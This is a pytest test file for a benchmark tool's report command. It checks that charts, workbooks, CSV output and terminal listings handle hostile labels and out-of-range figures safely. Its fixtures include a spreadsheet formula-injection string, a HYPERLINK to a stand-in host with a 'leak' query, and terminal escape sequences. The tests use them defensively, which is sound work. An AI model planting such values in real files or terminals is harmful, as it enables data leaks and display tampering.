"""`bench report` on hostile or odd records: labels that look like formulas, links, markup or math, and figures a
measurement cannot give. Each must come out as written (text stays text) or as "not measured", never a traceback."""

from __future__ import annotations

import warnings
from pathlib import Path
from typing import Any

import matplotlib.pyplot as plt
import numpy as np
import openpyxl
import pandas as pd
import pytest

from bench.errors import BenchError
from bench.report import write_report
from bench.report.xlsx import TIE
from bench.results import Record, ResultsWarning, RunWriter


def ok_case(case_id: str, latency: float = 2.0, size: int = 1000, **more: Any) -> dict[str, Any]:
    """An ok record's fields: ``latency`` ms per call at batch 1, ``size`` bytes, accuracy 0.9."""
    fields = dict(
        case_id=case_id,
        latency_p50_ms=latency,
        latency_p99_ms=latency * 1.5,
        latency_mean_ms=latency,
        throughput_items_per_s=1000.0 / latency if latency else 0.0,
        model_size_bytes=size,
        accuracy=0.9,
        accuracy_metric="auc",
    )
    return fields | more


def write_run(results: Path, cases: list[dict[str, Any]], run_id: str = "r", sections=None) -> str:
    """A finished run of suite ``s`` holding ``cases`` (fields of :func:`ok_case`, or any record fields)."""
    writer = RunWriter(results, run_id, {"suites": [{"name": "s", "path": "s.yaml", "sections": sections or {}}]})
    for fields in cases:
        identity = dict(
            run_id=run_id,
            suite="s",
            model="m",
            compression="fp32",
            engine="eager",
            device="cpu",
            threads=1,
            batch_size=1,
            status="ok",
        )
        record = Record(**(identity | fields))
        latency = record.latency_p50_ms  # samples of no time or less are damage of their own: none written
        writer.append(record, [latency] * 5 if latency is not None and latency > 0 else None)
    writer.close("finished")
    return run_id


FORMULA = '=HYPERLINK("http://example.invalid/?leak","click")'
LINK = "http://example.invalid/x"


def test_labels_that_look_like_formulas_or_links_stay_text_in_the_workbook(tmp_path):
    cases = [
        ok_case(FORMULA, model=LINK),
        ok_case("+1+1", model=LINK, compression="int8", latency=1.0, size=500, accuracy=0.89),
        ok_case("@SUM(A1)", model=LINK, compression="-2+3", latency=1.5, size=600),
    ]
    run_id = write_run(tmp_path / "results", cases)
    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    book = openpyxl.load_workbook(folder / "capacity.xlsx")
    texts = {cell.value: cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    for label in (FORMULA, "+1+1", "@SUM(A1)", "-2+3", LINK):
        assert texts.get(label) == "s", label  # written as the text it is, not as a formula
    for sheet in book:
        assert not sheet._hyperlinks, sheet.title  # a model name is not made a link
    capacity = book["capacity"]
    cells = {capacity.cell(row, 1).value: row for row in range(11, 14)}
    assert set(cells) == {FORMULA, "+1+1", "@SUM(A1)"}
    row = cells[FORMULA]
    assert capacity.cell(row, 6).data_type == "f"  # the plan's own formulas stay live
    assert capacity.cell(row, 6).value == f'=IF(AND(ISNUMBER(C{row}),C{row}<=latency_slo_ms),"yes","no")'


def _drawn(text) -> tuple[str, bool]:
    """What matplotlib draws for a Text artist: its string and whether it is read as math."""
    return text._preprocess_math(text.get_text())


def test_labels_with_dollar_signs_are_drawn_as_written_not_as_math(tmp_path):
    from bench.report.charts import make_charts
    from bench.report.tables import tables

    bad_math, math = "m$\\frac{$", "int8$_x$"
    cases = [ok_case("c1", model=bad_math), ok_case(math, model=bad_math, compression=math, latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases)
    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")  # bad math stopped it
    assert (folder / "score_ranking.png").is_file() and (folder / "pareto.png").is_file()
    drawn = set()
    for chart in make_charts(tables(run_id, tmp_path / "results")):
        if chart.figure is not None:
            for ax in chart.figure.axes:
                texts = [ax.title, *ax.get_xticklabels(), *ax.get_yticklabels(), *ax.texts]
                legend = ax.get_legend()
                drawn |= {_drawn(t) for t in texts + (list(legend.get_texts()) if legend else [])}
    assert (bad_math, False) in drawn and (math, False) in drawn
    labels = {text for text, is_math in drawn if "$" in text and "mathdefault" not in text}  # not log-axis ticks
    assert all((text, False) in drawn for text in labels) and bad_math in "".join(labels)


def test_a_tab_in_a_label_is_drawn_as_its_escape_without_a_missing_glyph_warning(tmp_path):
    """Was: a case id holding a tab printed "Glyph 9 (\t) missing from font(s) DejaVu Sans" three times as bench
    warnings (the other control characters were already drawn as their escapes)."""
    cases = [ok_case("ref"), ok_case("tab\there", compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases)
    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)
        write_report(run_id, tmp_path / "results", tmp_path / "reports")
    from bench.checks import plain_text

    assert plain_text("tab\there") == r"tab\there"


def test_a_case_id_of_thousands_of_characters_is_cut_in_its_chart_label_and_whole_in_summary_csv(tmp_path):
    """Was: a 5000-character case id drawn whole as a bar label left no room for the bars ("Tight layout not
    applied", printed as a bench warning). Now the label keeps its start and end, 80 characters in all."""
    from bench.report.charts import MAX_LABEL, score_chart
    from bench.report.tables import tables

    long_id = "m[" + "x" * 5000 + "-int8]"
    cases = [ok_case("ref"), ok_case(long_id, compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases)
    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)
        folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
        chart = score_chart(tables(run_id, tmp_path / "results"))
    labels = [t.get_text() for t in chart.figure.axes[0].get_yticklabels()]
    (cut,) = [label for label in labels if "…" in label]
    assert len(cut) == MAX_LABEL and cut.startswith("★ m[xxx") and cut.endswith("xxx-int8]")
    plt.close(chart.figure)
    assert long_id in set(pd.read_csv(folder / "summary.csv")["case_id"])


def test_history_draws_a_case_id_with_dollar_signs_as_written(tmp_path):
    from bench.gate import history

    for n, run_id in enumerate(("r1", "r2")):
        write_run(tmp_path, [ok_case("c$\\frac{$", latency=2.0 + n)], run_id=run_id)
    runs = history.index_runs(tmp_path, "s")
    paths, _ = history.plot_trends(history.history_frame(runs, "s"), "s", tmp_path / "out")
    assert paths and all(p.is_file() for p in paths)


@pytest.mark.parametrize(
    "odd",
    [
        {"latency_p50_ms": 0.0, "latency_mean_ms": 0.0},  # the reference's T denominator
        {"latency_p50_ms": -2.0, "throughput_items_per_s": -500.0},
        {"model_size_bytes": 0},  # the reference's S denominator
        {"throughput_items_per_s": 0.0},
        {"accuracy": 5.0},
    ],
)
def test_a_figure_no_measurement_gives_reads_as_not_measured_and_the_report_is_written(tmp_path, odd):
    cases = [ok_case("ref") | odd, ok_case("q", compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases)
    with pytest.warns(ResultsWarning, match=r"value\(s\) no measurement gives \(a latency, throughput or size <= 0"):
        folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    assert (folder / "index.html").is_file() and (folder / "capacity.xlsx").is_file()
    ref = result.cases.set_index("case_id").loc["ref"]
    assert all(pd.isna(ref[key]) for key in odd)  # read as not measured, never used as a figure
    scores = result.cases["score"].dropna()
    assert ((scores >= 0) & np.isfinite(scores)).all()


@pytest.mark.filterwarnings("error:overflow encountered:RuntimeWarning")  # was matplotlib's, on the cost chart's axis
def test_figures_at_the_edge_of_a_float_give_a_plan_without_overflow_or_infinity(tmp_path):
    """A vanishing throughput, a huge one and a huge price: the plan says "no plan" (blank) where a count or a cost
    overflows, needs at least one replica however fast a case is, and the workbook stays readable."""
    cases = [
        ok_case("ref"),
        ok_case("crawl", compression="int8", latency=1.0, throughput_items_per_s=5e-324),
        ok_case("warp", compression="bf16", latency=1.5, throughput_items_per_s=1e300),
    ]
    run_id = write_run(tmp_path / "results", cases, sections={"capacity": {"target_qps": 1e12, "headroom": 100}})
    prices = tmp_path / "prices.yaml"
    prices.write_text("cpu_core_hour: 1.0e+300\n")
    folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports", prices_file=prices)
    plan = result.capacity.set_index("case_id")
    assert pd.isna(plan.loc["crawl", "replicas"]) and plan.loc["warp", "replicas"] == 1
    numbers = result.capacity.select_dtypes("number").to_numpy(float)
    assert not np.isinf(numbers).any() and not np.isinf(result.cases["cost_per_1m"].astype(float)).any()
    for data_only in (False, True):  # an infinity cached in a formula made the workbook unreadable
        sheet = openpyxl.load_workbook(folder / "capacity.xlsx", data_only=data_only)["capacity"]
        rows = {sheet.cell(row, 1).value: row for row in range(11, 14)}
        assert set(rows) == {"ref", "crawl", "warp"}
    assert sheet.cell(rows["warp"], 7).value == 1  # cached replicas, as Excel's ROUNDUP gives
    assert sheet.cell(rows["crawl"], 7).value in ("", None)


@pytest.mark.filterwarnings("error:overflow encountered:RuntimeWarning")
@pytest.mark.parametrize("tiny", [{"latency": 5e-324}, {"size": 5e-324}], ids=["latency", "size"])
def test_a_reference_figure_next_to_zero_leaves_the_case_unscored_and_the_charts_drawn(tmp_path, tiny):
    """Was: a reference whose p50 (or size) was 5e-324 (above zero, so read as measured) gave the other case T = inf,
    P = inf, and `bench report` crashed in the score chart (ValueError: Axis limits cannot be NaN or Inf) after
    numpy's "overflow encountered in scalar divide". Now that case is not scored and its verdict says why."""
    cases = [ok_case("ref", **tiny), ok_case("q", compression="int8", latency=1.0, size=500)]
    folder, result = write_report(write_run(tmp_path / "results", cases), tmp_path / "results", tmp_path / "reports")
    assert (folder / "score_ranking.png").is_file() and (folder / "capacity.xlsx").is_file()
    q = result.cases.set_index("case_id").loc["q"]
    assert pd.isna(q["score"]) and q["score_note"] == (
        f"not scored: {'T' if 'latency' in tiny else 'S'} past a float's range (size or latency beside its reference's)"
    )
    terms = result.cases[["S", "T", "score"]].to_numpy(float)
    assert not np.isinf(terms).any()


def test_a_price_per_core_hour_times_threads_past_a_floats_range_is_no_price_and_says_so(tmp_path):
    """Was: 2 x 1.7e+308 per core-hour gave an infinite price per hour ("inf" in the plan and summary.csv), and the
    case's cost and monthly cost were blank with no reason given."""
    cases = [ok_case("ref"), ok_case("two", threads=2)]
    run_id = write_run(tmp_path / "results", cases)
    prices = tmp_path / "prices.yaml"
    prices.write_text("cpu_core_hour: 1.7e+308\n")
    folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports", prices_file=prices)
    rows = result.cases.set_index("case_id")
    assert rows.loc["ref", "price_per_hour"] == 1.7e308
    assert np.isnan(rows.loc["two", "price_per_hour"]) and np.isnan(rows.loc["two", "cost_per_1m"])
    assert rows.loc["two", "price_basis"] == "no price: 2 core(s) x 1.7e+308 per core-hour overflows a float"
    assert not np.isinf(result.capacity.select_dtypes("number").to_numpy(float)).any()
    assert "inf" not in (folder / "summary.csv").read_text().replace("infeasible", "")


def test_energy_prices_near_a_floats_limit_give_no_figure_rather_than_infinity(tmp_path):
    """Was: 2.8 kWh per 1M x 1.7e+308 g/kWh (or per kWh) was inf in carbon_g_per_1m and electricity_cost_per_1m."""
    run_id = write_run(tmp_path / "results", [ok_case("ref", energy_j_per_item=10.0)])
    prices = tmp_path / "prices.yaml"
    prices.write_text("carbon_g_per_kwh: 1.7e+308\nelectricity_per_kwh: 1.0e+308\n")
    folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports", prices_file=prices)
    row = result.cases.iloc[0]
    assert row["energy_kwh_per_1m"] == pytest.approx(10 / 3.6)
    assert np.isnan(row["carbon_g_per_1m"]) and np.isnan(row["electricity_cost_per_1m"])
    assert "inf" not in (folder / "summary.csv").read_text().replace("infeasible", "")


@pytest.mark.parametrize("price", ["1.5e+308", "0"])
def test_a_price_of_zero_or_near_a_floats_limit_draws_the_cost_chart_and_writes_the_report(tmp_path, price):
    """Was: a price of 1.5e+308 per core-hour gave costs near a float's limit, and matplotlib's log axis raised
    OverflowError (a traceback, no report); a price of 0 gave costs of 0, which a log axis cannot draw (matplotlib's
    "Data has no positive values" printed as a bench warning and no bar shown). Now the bars are drawn, each labelled
    with its figure: costs of 0 on a linear axis, huge ones ending at the log axis' edge."""
    from bench.report.charts import LOG_RANGE, cost_chart
    from bench.report.tables import tables

    cases = [ok_case("ref", latency=4.0), ok_case("q", compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases)  # 250 and 1000 items/s: 1.67e308 and 4.2e307 per 1M
    prices = tmp_path / "prices.yaml"
    prices.write_text(f"cpu_core_hour: {price}\n")
    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)  # matplotlib's complaints reach the user as warnings
        warnings.simplefilter("error", RuntimeWarning)
        folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports", prices_file=prices)
        chart = cost_chart(tables(run_id, tmp_path / "results", prices_file=prices))
    assert (folder / "cost_per_1m.png").is_file() and (folder / "index.html").is_file()
    costs = result.cases["cost_per_1m"].astype(float)
    assert np.isfinite(costs).all() and (costs > 1e307 if price != "0" else costs == 0).all()
    (ax,) = chart.figure.axes
    assert ax.get_xscale() == ("linear" if price == "0" else "log")
    assert ax.get_xlim()[1] <= LOG_RANGE[1] * 10
    labels = sorted(text.get_text().strip() for text in ax.texts)
    assert labels == sorted(f"{cost:.3g}" for cost in costs)  # the figures as computed, not as clipped
    plt.close(chart.figure)


def test_a_ranking_whose_every_p_is_0_draws_its_chart_without_matplotlibs_complaints(tmp_path):
    """Only a train weight and nothing trained: every P is 0. Was: "Attempting to set identical low and high xlims"
    and "No artists with labels found to put in legend" printed as bench warnings."""
    cases = [ok_case("ref"), ok_case("q", compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases, sections={"scoring": {"weights": {"train": 1}}})
    with warnings.catch_warnings():
        warnings.simplefilter("error", UserWarning)
        folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    assert (result.cases["score"].dropna() == 0).all() and (folder / "score_ranking.png").is_file()


def test_a_workbook_where_no_plan_meets_the_slo_gives_no_cheapest_cost_not_0(tmp_path):
    """Was: "cheapest plan meeting the SLO: none meets the SLO" over "its monthly cost (USD): 0" (=MIN of no number
    is 0). Now that cell is blank, its formula too when the inputs change so that none meets the SLO."""
    cases = [ok_case("ref"), ok_case("q", compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases, sections={"capacity": {"latency_slo_ms": 0.001}})
    folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    assert not result.capacity["meets_slo"].any()
    cells = {}
    for data_only in (False, True):
        sheet = openpyxl.load_workbook(folder / "capacity.xlsx", data_only=data_only)["capacity"]
        rows = {sheet.cell(row, 1).value: row for row in range(1, sheet.max_row + 1)}
        labels = [label for label in rows if str(label).startswith(("cheapest plan", "its monthly cost"))]
        cells[data_only] = [sheet.cell(rows[label], 2).value for label in labels]
    assert cells[True] in (["none meets the SLO", ""], ["none meets the SLO", None])
    assert cells[False][1] == '=IF(COUNT(T11:T12)=0,"",MIN(T11:T12))'  # the feasible plans' costs


def test_a_free_plan_is_cached_as_costing_0_not_as_blank(tmp_path):
    """Was: with a price of 0 the plan's monthly cost (column Q) was cached as blank, not 0, while its formula gives
    0: a reader that does not recalculate showed no plan cost and no feasible plan cost (column T). Now 0 is 0, and
    the two free plans tie for the cheapest (was: the first named alone)."""
    cases = [ok_case("ref"), ok_case("q", compression="int8", latency=1.0, size=500)]
    run_id = write_run(tmp_path / "results", cases)
    prices = tmp_path / "prices.yaml"
    prices.write_text("cpu_core_hour: 0\n")
    folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports", prices_file=prices)
    assert (result.capacity["monthly_cost"] == 0).all()
    sheet = openpyxl.load_workbook(folder / "capacity.xlsx", data_only=True)["capacity"]
    assert [sheet[f"{column}{row}"].value for row in (11, 12) for column in "QT"] == [0, 0, 0, 0]
    assert [sheet.cell(14, 2).value, sheet.cell(15, 2).value] == [TIE.format(count=2), 0]


def test_a_server_peak_whose_items_per_s_overflow_costs_nothing_nowhere(tmp_path):
    """Was: server_max_qps 1e308 at batch 2^20 gave loaded_items_per_s inf and a cost of 0.000 per 1M (and a plan
    of 1 replica); once the plan refused it, its basis blamed an SLO looser than the plan's. Now that row is costed
    and planned from its single-stream throughput, and the plan says why."""
    peak = dict(batch_size=1 << 20, server_max_qps=1e308, server_slo_ms=5.0, server_validity="VALID")
    cases = [ok_case("ref"), ok_case("q", compression="int8", latency=1.0, size=500, **peak)]
    run_id = write_run(tmp_path / "results", cases, sections={"capacity": {"latency_slo_ms": 10}})
    folder, result = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    q = result.cases.set_index("case_id").loc["q"]
    assert np.isfinite(q["loaded_items_per_s"]) and q["throughput_basis"] == "single-stream"
    assert q["cost_per_1m"] > 0
    plan = result.capacity.set_index("case_id").loc["q"]
    assert plan["plan_basis"] == "single-stream formula (the load peak 1e+308 x batch size overflows a float)"
    assert np.isfinite(pd.read_csv(folder / "summary.csv")["loaded_items_per_s"]).all()


def test_a_name_with_terminal_escapes_prints_escaped_not_as_a_command_to_the_terminal(tmp_path, capsys):
    from bench.cli import main

    escape = "\x1b]0;title\x07\x1b[2J\u202e"
    cases = [ok_case("c1" + escape, model="m" + escape), ok_case("c2", model="m" + escape, latency=1.0, size=500)]
    results = tmp_path / "results"
    write_run(results, cases)
    for command in (["results", "r"], ["report", "r", "--out", str(tmp_path / "reports")]):
        assert main([*command, "--results", str(results)]) == 0
        out, err = capsys.readouterr()
        assert "\x1b" not in out + err and "\x07" not in out + err and "\u202e" not in out + err
        assert r"m\x1b]0;title\x07\x1b[2J\u202e" in out or r"c1\x1b]0;title\x07\x1b[2J\u202e" in out


def test_an_invalid_recorded_section_names_the_runs_meta_json_and_an_unknown_profile_names_the_option(tmp_path, capsys):
    from bench.cli import main

    results = tmp_path / "results"
    write_run(results, [ok_case("c1")], sections={"scoring": {"weights": {"size": "x"}}})
    assert main(["report", "r", "--results", str(results), "--out", str(tmp_path / "reports")]) == 2
    meta = results / "r" / "meta.json"
    assert f"error: {meta} (suite s): scoring.weights.size: must be a finite number, got 'x'" in capsys.readouterr().err
    write_run(results, [ok_case("c1")], run_id="r2")
    with pytest.raises(SystemExit) as exit_:  # refused by the option's own check, before the run is read
        main(["report", "r2", "--results", str(results), "--profile", "bogus"])
    assert exit_.value.code == 2
    assert "error: argument --profile: unknown profile 'bogus'." in capsys.readouterr().err
    from bench.report.tables import tables  # the library path names the option too

    with pytest.raises(BenchError, match=r"--profile: unknown profile 'bogus'"):
        tables("r2", results, profile="bogus")


def test_text_over_excels_cell_limit_is_cut_with_a_marker_in_the_workbook_and_whole_in_summary_csv(tmp_path):
    """Was: xlsxwriter cut a string over 32767 characters (Excel's cell limit) silently."""
    long_error = "memory pass: " + "E" * 40_000
    run_id = write_run(tmp_path / "results", [ok_case("a", pass_errors=long_error)])
    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    book = openpyxl.load_workbook(folder / "capacity.xlsx")
    texts = [c.value for row in book["cases"].iter_rows() for c in row if str(c.value).startswith("memory pass: ")]
    (cut,) = texts
    assert len(cut) <= 32767
    assert cut.endswith(f" … [cut: {len(long_error)} characters in all, the whole text is in summary.csv]")
    summary = pd.read_csv(folder / "summary.csv")
    assert summary.loc[0, "pass_errors"] == long_error


def test_summary_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula_and_keeps_numbers(tmp_path):
    """Was: summary.csv held '=HYPERLINK(...)', '-2+3' and '@SUM(A1)' as bare cells, which a spreadsheet opening the
    file runs as formulas. Text now starts with OWASP's ', numbers (a negative accuracy drop) stay numbers."""
    import csv

    cases = [
        ok_case(FORMULA),
        ok_case("+1+1", compression="int8", latency=1.0, size=500, accuracy=0.95),
        ok_case("@SUM(A1)", compression="-2+3", latency=1.5, size=600),
    ]
    run_id = write_run(tmp_path / "results", cases)
    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    with open(folder / "summary.csv", newline="", encoding="utf-8") as handle:
        rows = {row["case_id"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {"'" + FORMULA, "'+1+1", "'@SUM(A1)"}
    assert rows["'@SUM(A1)"]["compression"] == "'-2+3"
    assert rows["'+1+1"]["accuracy_drop"].startswith("-0.0")  # a number, not text: no quote
    assert float(rows["'+1+1"]["accuracy_drop"]) == pytest.approx(-0.05)
    assert rows["'+1+1"]["model"] == "m"  # plain text is unchanged


@pytest.mark.parametrize(
    "curve",
    [
        [5, "x", None],
        [{"qps": "x", "p99_ms": 1.0}, {"qps": 20.0, "p99_ms": 1.0}],
        [{"qps": [1], "p99_ms": {"a": 1}}, {"qps": 10**400, "p99_ms": 2.0}, {"qps": True, "p99_ms": -1.0}],
    ],
    ids=["not-mappings", "a-rate-as-text", "not-numbers"],
)
def test_load_curve_points_that_are_not_a_rate_and_a_latency_are_left_off_the_chart(tmp_path, curve):
    """Was: AttributeError, TypeError ('<' between str and int, unhashable dict) tracebacks from bench report."""
    from bench.report.load_chart import load_curve_chart
    from bench.report.tables import tables

    good = {"qps": 10.0, "p99_ms": 1.5, "meets_slo": True}
    case = ok_case("ref", server_max_qps=10.0, server_slo_ms=5.0, extra={"load_curve": [*curve, good]})
    run_id = write_run(tmp_path / "results", [case])
    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    assert (folder / "index.html").is_file()
    axis = load_curve_chart(tables(run_id, tmp_path / "results")).figure.axes[0]
    drawn = [tuple(xy) for line in axis.get_lines() if line.get_label().startswith("fp32") for xy in line.get_xydata()]
    assert drawn == [(10.0, 1.5), *([(20.0, 1.0)] if curve[1] == {"qps": 20.0, "p99_ms": 1.0} else [])]


def test_cpu_cases_without_a_throughput_figure_draw_no_scaling_line_and_the_report_is_written(tmp_path):
    """Was: TypeError (None * int) in the thread-scaling chart when no case of the run had a throughput figure (not
    measured, or read as not measured: a hand-edited "fast")."""
    from bench.report.charts import threads_chart
    from bench.report.tables import tables

    cases = [ok_case(f"m[{t}t]", threads=t, throughput_items_per_s=None) for t in (1, 2)]
    run_id = write_run(tmp_path / "results", cases)
    folder, _ = write_report(run_id, tmp_path / "results", tmp_path / "reports")
    assert (folder / "index.html").is_file()
    chart = threads_chart(tables(run_id, tmp_path / "results"))
    assert chart.figure is None and chart.note == "needs CPU cases at two or more thread counts"
    cases[1] = ok_case("m[2t]", threads=2, latency=1.0)  # a throughput at one thread count only: still no line
    write_run(tmp_path / "results", cases, run_id="r2")
    assert threads_chart(tables("r2", tmp_path / "results")).figure is None


def test_a_host_or_commit_with_line_breaks_or_controls_keeps_each_listing_one_line_per_run(tmp_path, capsys):
    """A host name, CPU model or commit read from a run's meta.json was printed as written: ``still running (pid 1 on
    a`` then ``b; ...`` on a line of its own, a baseline's line split in two, and escapes added after pandas laid out
    its columns shifted every column after them (``\\u2028`` went out as it was)."""
    import json

    from bench.cli import main
    from tests.gate_helpers import make_run

    results = tmp_path / "results"
    odd = "host\nfake  1  line\x0b\u2028\x1b[2J"
    env = {"hostname": odd, "cpu_model": "cpu\nmodel", "git_commit": "c0ffee\x1bx"}
    for run_id, started in (("r1", "2026-11-22T10:00:00Z"), ("r2", "2026-11-23T10:00:00Z")):
        make_run(results, run_id, {"m[fp32-cpu-1t-bs1]": {"samples": [1.0, 1.1, 1.2]}}, env=env, started_at=started)
    meta = json.loads((results / "r2" / "meta.json").read_text())
    meta.update(status="running", process={"pid": "1\n2", "host": odd})
    (results / "r2" / "meta.json").write_text(json.dumps(meta))
    shown = r"host\nfake  1  line\x0b\u2028\x1b[2J"
    assert main(["baseline", "set", "r1", "--results", str(results)]) == 0
    capsys.readouterr()
    for command, table in (
        (["results"], 3),
        (["results", "r2"], 0),
        (["history", "demo", "--out", str(tmp_path / "trends"), "--metric", "latency_p50_ms"], 3),
        (["baseline", "show"], 0),
    ):
        assert main([*command, "--results", str(results)]) == 0
        out = capsys.readouterr().out
        lines = out.split("\n")
        assert not any(c in out for c in "\x0b\x1b\u2028"), command
        assert any(shown in line for line in lines), command  # the whole name, on one line
        if table:  # the header and one line per run, every column in line: all as wide as the header
            rows = next(lines[i : i + table] for i, line in enumerate(lines) if line.lstrip().startswith("run_id"))
            assert len({len(row) for row in rows}) == 1 and all(
                row.lstrip().startswith(("run_id", "r1", "r2")) for row in rows
            )
    assert main(["results", "r2", "--results", str(results)]) == 0
    assert f"still running (pid 1\\n2 on {shown}; another host" in capsys.readouterr().out
